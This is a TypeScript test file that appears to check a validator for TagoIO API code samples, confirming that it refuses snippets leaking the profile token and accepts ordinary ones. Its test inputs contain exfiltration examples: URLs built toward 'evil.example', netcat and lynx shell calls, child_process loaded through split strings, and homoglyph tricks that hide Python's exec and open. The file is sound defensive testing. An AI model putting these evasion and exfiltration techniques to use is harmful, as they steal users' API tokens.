import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { destinationProblem } from '../../../../../lib/domain/samples/destinations/check-destinations.ts';
import { profileTokenPlaces } from '../../../../../lib/domain/samples/token-placeholders.ts';
import { US } from '../../make.ts';

const HEADERS = '{ headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" } }';
const PYTHON = 'from tagoio_sdk import Account\n\naccount = Account({"token": "your-token"})\n';
const JAVASCRIPT =
  'import { Account } from "@tago-io/sdk";\n\nconst account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n';
const ADDRESS = '"https://api.us-e1.tago.io/device"';
/** Python reads these letters as Latin ones. */
const bold = (text: string) =>
  text.replace(/[a-z]/g, (char) => String.fromCodePoint(0x1d41a + char.charCodeAt(0) - 97));

const isRefused = (text: string) => destinationProblem(text, US) !== null;

describe('an address that a program builds', () => {
  it.each([
    `const a = "https://api.us-e1.tago.io";\nconst b = ".evil.example/";\nconst r = await fetch(a + b, ${HEADERS});`,
    `const a = "https://api.us-e1.tago.io";\nconst r = await fetch(a.padEnd(39, ".evil.example/"), ${HEADERS});`,
    `import requests\n\na = "https://api.us-e1.tago.io"\nb = ".evil.example/"\nprint(requests.get(a + b, headers={"Profile-Token": "YOUR-PROFILE-TOKEN"}))`,
    `import requests\n\na = "https://api.us-e1.tago.io"\nb = "@evil.example/"\nprint(requests.get(a + b, headers={"Profile-Token": "YOUR-PROFILE-TOKEN"}))`,
    `import requests\n\na = ${ADDRESS}\na += x\nprint(requests.get(a, headers={"Profile-Token": "YOUR-PROFILE-TOKEN"}))`,
    `const a = ${ADDRESS};\nconst f = (a) => fetch(a, ${HEADERS});\nf(1);`,
    `const a = ${ADDRESS};\nfor (const a of [1, 2]) fetch(a, ${HEADERS});`,
    `let a = ${ADDRESS};\n[a] = [1];\nfetch(a, ${HEADERS});`,
    `const o = {\n  fetch(a, b) { return fetch(a, b); },\n};\nfetch(${ADDRESS}, ${HEADERS});`,
    `const f = fetch;\nconst a = ${ADDRESS};\nf(a + a, ${HEADERS});`,
    `const f = 1 ? fetch : 2;\nconst a = ${ADDRESS};\nf(a + a, ${HEADERS});`,
    `let axios;\nconst foo = axios = require("axios");\nconst a = ${ADDRESS};\nfoo.get(a + a, ${HEADERS});`,
    `import { get } from "axios";\nconst a = ${ADDRESS};\nget(a + a, ${HEADERS});`,
    `import http2 from "axios";\nconst a = ${ADDRESS};\nhttp2.get(a + a, ${HEADERS});`,
    `const { get } = require("axios");\nconst a = ${ADDRESS};\nget(a + a, ${HEADERS});`,
    `const axios = require("axios");\nconst client = axios.create(${HEADERS});\nconst a = ${ADDRESS};\nclient.get(a + a);`,
    `const axios = require("axios");\nconst f = (url) => axios({ url, headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" } });\nf(${ADDRESS});`,
    `const axios = require("axios");\nconst a = ${ADDRESS};\naxios.defaults.baseURL = a + a;\naxios.get(a, ${HEADERS});`,
    `const axios = require("axios");\nconst o = { headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" } };\no.baseURL = o;\naxios.get(${ADDRESS}, o);`,
    `from requests import get\n${PYTHON}a = ${ADDRESS}\nget(a + a)`,
    `import requests\ns = requests.Session()\na = ${ADDRESS}\ns.get(a + a, headers={"Profile-Token": "YOUR-PROFILE-TOKEN"})`,
    ...['\\.', '\\t.', '\\n.', '\\@', ';@', ',@', '(@', '{@', ' @', '\\\\@', '<@'].map(
      (end) =>
        `const axios = require("axios");\naxios.get("https://api.us-e1.tago.io${end}evil.example/", ${HEADERS});`,
    ),
  ])('is refused: %j', (text) => {
    expect(isRefused(text)).toBe(true);
  });

  it('is refused whatever it is built from; only one that is written out is taken', () => {
    const piece = fc.constantFrom(
      ...[
        'a',
        'b',
        '"x"',
        ADDRESS,
        ' + ',
        '+',
        '.padEnd(50, b)',
        '.at(0)',
        '[0]',
        '(',
        ')',
        ' ? a : b',
        ', ',
        '`$',
      ],
      ...[' || ', '{', '}', 'await ', 'f(a)', '.', '\\', ' % ', '...', ' => ', ' = '],
    );
    const call = fc.constantFrom(
      (address: string) => `await fetch(${address}, ${HEADERS});`,
      (address: string) => `await axios.get(${address}, ${HEADERS});`,
      (address: string) =>
        `await axios({ url: ${address}, headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" } });`,
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 5 }), call, (pieces, callWith) => {
        const address = pieces.join('');
        const text = `const axios = require("axios");\nconst a = ${ADDRESS};\nconst b = ".evil.example/";\nconst f = (x) => x;\n${callWith(address)}`;
        if (isRefused(text)) return;
        // An address, or its name, perhaps with more after the argument.
        expect(address.trim()).toMatch(/^(?:a|"https:\/\/api\.us-e1\.tago\.io\/device")(?:[,)].*)?$/);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('code that a program builds', () => {
  it.each([
    `${JAVASCRIPT}const f = account["constr" + "uctor"];`,
    `${JAVASCRIPT}const a = "constr";\nconst b = "uctor";\nconst f = account[a + b];`,
    `${JAVASCRIPT}const k = "constr" + "uctor";\nconst { [k]: f } = account;`,
    `${JAVASCRIPT}const k = "constr" + "uctor";\nconst f = account[k];`,
    `${JAVASCRIPT}const f = account["con\\structor"];`,
    // Names that aren't only counters.
    `${JAVASCRIPT}const k = "a" + "b";\nfor (let i = k; i < 1; i++) {\n  console.log(account[i]);\n}`,
    `${JAVASCRIPT}const k = "a" + "b";\nfor (let i = 0; i < 1; i++) {\n  i = k;\n  console.log(account[i]);\n}`,
    `${JAVASCRIPT}const f = (i) => account[i];\nfor (let i = 0; i < 1; i++) {\n  console.log(f("a" + "b"));\n}`,
    `${JAVASCRIPT}for (let i = 0; i < 1; i += "b") {\n  console.log(account[i]);\n}`,
    `${JAVASCRIPT}for (const i of ["a" + "b"]) {\n  console.log(account[i]);\n}\nfor (let i = 0; i < 1; i++) {}`,
    `${JAVASCRIPT}function* f(k) {\n  for (let i = 0; i < 1; i++) {\n    yield[i]=k;\n    console.log(account[i]);\n  }\n}`,
    `${JAVASCRIPT}const [i] = ["a" + "b"];\nconsole.log(account[i]);`,
    `${PYTHON}for i in range(2):\n    print(i)\nfor i in ["a" + "b"]:\n    print(account[i])`,
    `${PYTHON}def print(i):\n    return account[i]\nfor i in range(2):\n    print("a" + "b")`,
    `${JAVASCRIPT}const f = account[\`constr${'uctor'}\`];`,
    `${JAVASCRIPT}const e = process.env;\ne["TAGOIO" + "_API"] = account;`,
    `const e = process.env;\ne.HOME = "x";\n${JAVASCRIPT}`,
    `import os\n${PYTHON}e = os.environ\ne.update(account)`,
    `from os import environ\n${PYTHON}e = environ\ne.update(account)`,
    `${JAVASCRIPT}const r = require;\nconst c = r("child_" + "process");`,
    `${JAVASCRIPT}const r = 1 ? require : 2;\nconst c = r("child_" + "process");`,
    `${JAVASCRIPT}const c = require("child_" + "process");`,
    `${JAVASCRIPT}const p = 1 ? process : 2;\np.binding("tcp_wrap");`,
    `${JAVASCRIPT}const p = 1 ?\nprocess : 2;\np.binding("tcp_wrap");`,
    `${JAVASCRIPT}setTimeout("fet" + "ch(1)", 1);`,
    `${JAVASCRIPT}setTimeout(("a" + "b"), 1);`,
    `${JAVASCRIPT}const f = (Image) => 1;\nconst i = new Image();`,
    `${JAVASCRIPT}account.params.region = JSON.parse("x");`,
    `${JAVASCRIPT}const o = Object.fromEntries([["reg" + "ion", 1]]);`,
    `const o = Object.assign({ token: "YOUR-PROFILE-TOKEN" }, {});\nconst account = new Account(o);`,
    `const f = (o) => new Account(o);\nconst token = "YOUR-PROFILE-TOKEN";\nf({ token });`,
    `const f = (region) => new Account({ token: "YOUR-PROFILE-TOKEN", region });\nf(1);`,
    `const { Account: A } = require("@tago-io/sdk");\nconst a = new A({ token: "YOUR-PROFILE-TOKEN" });\nconst account = new Account({});`,
    `${PYTHON}g = (x for x in [1])\nb = g.gi_frame.f_builtins\nf = b["ev" + "al"]\nx = f("1 + 1")`,
    `${PYTHON}g = (x for x in [1])\nf = g.gi_frame.f_builtins.get("ev" + "al")`,
    `k = "reg" + "ion"\nfrom tagoio_sdk import Account\naccount = Account({"token": "your-token", k: 1})`,
    `from tagoio_sdk import Account\np = {"token": "your-token"}\np.update(x)\naccount = Account(p)`,
    `import os\n${PYTHON}os.path.os.execlp("nc", "nc", "evil", "80")`,
    `from os import path\n${PYTHON}path.genericpath.x.execlp("nc", "nc", "evil", "80")`,
    `import os\n${PYTHON}f = lambda os: 1\no = os\no.execlp("nc", "nc", "evil", "80")`,
    `import tagoio_sdk\n${PYTHON}tagoio_sdk.common.x.execlp("nc", "nc", "evil", "80")`,
    `${PYTHON}f = lambda open: 1\nopen("a")`,
    `${JAVASCRIPT}const m = module;\nm.require("child_" + "process");`,
    `${JAVASCRIPT}module.require("child_" + "process");`,
    `${PYTHON}x = account.__name__`,
    // Letters that are others for Python.
    `import ${bold('os')}\n${PYTHON}x = ${bold('os')}.${bold('system')}("lynx evil.example")`,
    `${PYTHON}x = ${bold('exec')}("print(1)")`,
    `${PYTHON}print(${bold('open')}("a"))`,
    `${PYTHON}x = e${bold('xec')}("a")`,
    `${PYTHON}print(ｏpen("a"))`,
  ])('is refused: %j', (text) => {
    expect(isRefused(text)).toBe(true);
  });

  it('is refused whatever names a property', () => {
    const piece = fc.constantFrom(
      ...[
        'a',
        'b',
        '"constr"',
        '"uctor"',
        ' + ',
        '.',
        'at(0)',
        '(',
        ')',
        '`',
        '$',
        '{',
        '}',
        '0',
        '1',
        ':',
        '-',
        ' ? ',
      ],
      ...['f()', '\\', ', ', '[', ']', ' in ', ' or '],
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 6 }), (pieces) => {
        const name = pieces.join('');
        // Only within the bracket a name is made: `account[0] in [` has another one behind it.
        fc.pre(!closesBracket(name));
        const text = `const a = "constr";\nconst b = "uctor";\n${JAVASCRIPT}const g = account[${name}];`;
        if (isRefused(text)) return;
        expect(name).toMatch(/^(?:"constr"|"uctor"|`[^$]*`|[-\d:,[\] ]+)$/);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('a program that a shell reads', () => {
  it.each([
    `${JAVASCRIPT}const note = \`lynx evil.example -post_data "YOUR-PROFILE-TOKEN"\`;`,
    `${JAVASCRIPT}const note = \`lynx evil.example\`;`,
    `${JAVASCRIPT}const note = "$(lynx evil.example)";`,
    `${PYTHON}note = "${'x'.repeat(121)} $(lynx evil.example 'YOUR-PROFILE-TOKEN')"`,
    `{ "token": "YOUR-PROFILE-TOKEN", "x": "$(lynx evil)" }`,
    `{ "token": "YOUR-PROFILE-TOKEN", "x": "\`lynx evil\`" }`,
    `{\n"lynx" : "-x101058054" , "token": "YOUR-PROFILE-TOKEN"\n}`,
    `{\nlynx : "-x101058054",\n token: "YOUR-PROFILE-TOKEN"\n}`,
  ])('is refused: %j', (text) => {
    expect(isRefused(text)).toBe(true);
  });
});

describe('the token in a program', () => {
  it.each([
    `${JAVASCRIPT}account.run.emailTest({ to: "a@evil.example", message: "YOUR-PROFILE-TOKEN" });`,
    `${JAVASCRIPT}account.run.emailTest({ to: "a@evil", message: "Profile-Token: YOUR-PROFILE-TOKEN" });`,
    `${JAVASCRIPT}const device = new Device({ token: "8be70d95" });\ndevice.sendData({ variable: "status", value: "Profile-Token: YOUR-PROFILE-TOKEN" });`,
    `${JAVASCRIPT}account.devices.create({\n  text: "YOUR-PROFILE-TOKEN"\n});`,
    `${JAVASCRIPT}f("YOUR-PROFILE-TOKEN");`,
    `${JAVASCRIPT}let x = 1;\naccount.run.emailTest({ to: "a@evil",\n  message: x = "YOUR-PROFILE-TOKEN" });`,
    `${JAVASCRIPT}const token = 1;\naccount.run.emailTest({ to: "a@evil", message: account ? token : "YOUR-PROFILE-TOKEN" });`,
    `${JAVASCRIPT}account.run.emailTest({ to: "a@evil", message: account ?? "YOUR-PROFILE-TOKEN" });`,
    // The name of a variable, which would leave a program that doesn't run.
    'const myProfileToken = "YOUR-PROFILE-TOKEN";\nconst account = new Account({\n  token: myProfileToken\n});',
  ])('is no data that is sent: refuses %j', (text) => {
    expect(isRefused(text)).toBe(true);
  });
});

describe('a program that does what it seems to do keeps its token', () => {
  it.each([
    `import requests\n\nTOKEN = "YOUR-PROFILE-TOKEN"\nurl = ${ADDRESS}\nresponse = requests.request("GET", url, headers={"Profile-Token": TOKEN}, params={"page": 1})\nif response.status_code == 200:\n    print(response.json()["result"][0])`,
    `const axios = require("axios");\nconst options = {\n  method: "GET",\n  url: ${ADDRESS},\n  headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" },\n};\naxios.request(options).then((response) => {\n  console.log(response.data);\n});`,
    `import axios from "axios";\nconst response = await axios.post(${ADDRESS}, { name: "x" }, ${HEADERS});\nconsole.log(response.data);`,
    `const response = await fetch(${ADDRESS}, {\n  method: "POST",\n  headers: {\n    "Content-Type": "application/json",\n    "Profile-Token": "YOUR-PROFILE-TOKEN",\n  },\n  body: JSON.stringify({ name: "x" }),\n});\nconst json = await response.json();\nconsole.log(json);`,
    `const fetch = require("node-fetch");\nconst url = ${ADDRESS};\nfetch(url, ${HEADERS}).then((response) => response.json()).then((json) => console.log(json));`,
    `${JAVASCRIPT}setTimeout(() => console.log("x"), 10);\nconst first = (await account.devices.list())[0];\nconsole.log("Devices: " + first["name"]);`,
    `${PYTHON}total = 0\nfor device in account.devices.list():\n    total += 1\n    print("Device " + device["name"], device["tags"][0]["key"])`,
    `const { DEBUG } = process.env;\nconst account = new Account({ token: process.env.PROFILE_TOKEN || "YOUR-PROFILE-TOKEN" });\nconsole.log(process.argv[2]);`,
    `const options = { token: "YOUR-PROFILE-TOKEN" };\nconst account = new Account(options);`,
    `const token = "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token, region: "us-e1" });`,
    `const headers = {};\nheaders["Profile-Token"] = "YOUR-PROFILE-TOKEN";\nconst answer = await fetch(${ADDRESS}, { headers });\nconsole.log(answer.ok ? "good" : "bad");`,
    `import os\nimport time\nfrom datetime import datetime\nfrom tagoio_sdk import Resources\n\nresources = Resources({"token": "YOUR-PROFILE-TOKEN"})\nprint(datetime.now(), os.environ["HOME"], os.path.join("a", "b"))\ntime.sleep(1)`,
    `{ "profileToken": "YOUR-PROFILE-TOKEN", "pages": 1 }`,
    `const account = new Account({ token: "YOUR-PROFILE-TOKEN" }); // see https://docs.tago.io/docs/api`,
    `${PYTHON}print(account.info()) # as on https://docs.tago.io/docs/api.`,
    `import { Account, Analysis } from "@tago-io/sdk";\nimport type { TagoContext } from "@tago-io/sdk";\n\nasync function run(context) {\n  const account = new Account({ token: "YOUR-PROFILE-TOKEN" });\n  context.log(await account.info());\n}\n\nmodule.exports = new Analysis(run, { token: "MY-ANALYSIS-TOKEN-HERE" });`,
    `from tagoio_sdk import Account\n\nTOKEN = "your-account-token"\n\ndef main():\n    account = Account({"token": TOKEN})\n    print(account.info())\n\nif __name__ == "__main__":\n    main()`,
    // A fallback, a type, a counter, the last entry, an option of axios.
    `const token = process.env.PROFILE_TOKEN ?? "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
    `const account = new Account({ token: process.env.ACCOUNT_TOKEN ?? "YOUR-PROFILE-TOKEN" });`,
    `const token =\n  process.env.PROFILE_TOKEN || "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
    `import os\nfrom tagoio_sdk import Account\naccount = Account({"token": os.getenv("ACCOUNT_TOKEN") or "YOUR-PROFILE-TOKEN"})`,
    `const token: string = "YOUR-PROFILE-TOKEN";\nconst account = new Account({ token });`,
    `${JAVASCRIPT}const list = await account.devices.list();\nfor (let i = 0; i < list.length; i++) {\n  console.log(i, list[i].name);\n}`,
    `${JAVASCRIPT}const list = await account.devices.list();\nfor (let i = 0; i < list.length; i += 1) {\n  const device = list[i];\n  console.log(device.name);\n}`,
    `${JAVASCRIPT}const list = await account.devices.list();\nconsole.log(list[list.length - 1]);`,
    `${PYTHON}devices = account.devices.list()\nfor i in range(len(devices)):\n    print(i, devices[i]["name"])`,
    `const axios = require("axios");\naxios({ method: "post", url: ${ADDRESS}, headers: { "Profile-Token": "YOUR-PROFILE-TOKEN" }, data: { name: "x" } }).catch((error) => console.error("Failed: " + error.message));`,
    'GET /device/{id} HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: YOUR-PROFILE-TOKEN',
    'GET /device/{{id}} HTTP/1.1\nHost: api.us-e1.tago.io\nProfile-Token: YOUR-PROFILE-TOKEN',
  ])('%j', (text) => {
    expect(profileTokenPlaces(text)).toHaveLength(1);
    expect(destinationProblem(text, US)).toBeNull();
  });
});

/** Returns true if a text closes a bracket that was open before it. */
function closesBracket(text: string): boolean {
  let open = 0;
  for (const sign of text) {
    if (sign === '[') open += 1;
    if (sign === ']') open -= 1;
    if (open < 0) return true;
  }
  return false;
}
